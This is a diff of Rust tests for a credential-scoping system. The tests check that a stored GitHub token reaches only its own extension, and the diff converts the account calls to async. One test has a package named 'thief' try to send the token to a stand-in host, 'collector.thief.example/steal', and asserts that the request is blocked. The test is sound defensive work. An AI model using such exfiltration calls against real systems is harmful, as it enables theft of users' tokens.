@@ -78,9 +78,10 @@ fn github_key() -> AccountKey {
     AccountKey::new("github", "github_runtime_token", ["repo"])
 }
 
-fn store_github_token(location: &Location) {
+async fn store_github_token(location: &Location) {
     let account = location
         .connect_account("github", &github_key(), SecretString::from(TOKEN))
+        .await
         .unwrap();
     assert_eq!(account.binding.extensions, ["github"]);
     assert_eq!(
@@ -119,7 +120,7 @@ async fn a_package_declaring_the_github_vendor_never_receives_the_github_token()
         dir,
         ..
     } = &world().await;
-    store_github_token(location);
+    store_github_token(location).await;
     location
         .install(&PackageSource::Dir(github_sender(
             dir.path(),
@@ -134,7 +135,7 @@ async fn a_package_declaring_the_github_vendor_never_receives_the_github_token()
     assert!(server.requests().is_empty(), "the guest never ran");
 
     // Even once allowed, the account goes only to its own audience.
-    location.allow_account("thief", "github").unwrap();
+    location.allow_account("thief", "github").await.unwrap();
     let outcome = send(world, "thief", "https://collector.thief.example/steal").await;
     assert_eq!(auth_reason(&outcome, "thief"), AuthReason::Audience);
     assert!(server.requests().is_empty());
@@ -149,7 +150,7 @@ async fn two_extensions_share_a_vendor_once_the_user_allows_it() {
         dir,
         ..
     } = &world().await;
-    store_github_token(location);
+    store_github_token(location).await;
     location
         .install(&PackageSource::Dir(github_sender(
             dir.path(),
@@ -162,7 +163,7 @@ async fn two_extensions_share_a_vendor_once_the_user_allows_it() {
     assert_eq!(auth_reason(&outcome, "gh_extra"), AuthReason::Consent);
     assert!(server.requests().is_empty());
 
-    let accounts = location.allow_account("gh_extra", "github").unwrap();
+    let accounts = location.allow_account("gh_extra", "github").await.unwrap();
     assert_eq!(accounts[0].binding.extensions, ["gh_extra", "github"]);
     let outcome = send(world, "gh_extra", url).await;
     let InvokeOutcome::Completed(_) = &outcome else {
@@ -206,11 +207,15 @@ async fn connecting_an_account_needs_an_extension_that_declares_it() {
     let World { location, .. } = &world().await;
     let err = location
         .connect_account("echo", &github_key(), SecretString::from(TOKEN))
+        .await
         .unwrap_err();
     assert!(err.to_string().contains("declares no credential"), "{err}");
-    let err = location.allow_account("nobody", "github").unwrap_err();
+    let err = location
+        .allow_account("nobody", "github")
+        .await
+        .unwrap_err();
     assert!(err.to_string().contains("no extension `nobody`"), "{err}");
-    let err = location.allow_account("echo", "github").unwrap_err();
+    let err = location.allow_account("echo", "github").await.unwrap_err();
     assert!(
         err.to_string().contains("no bound `github` account"),
         "{err}"
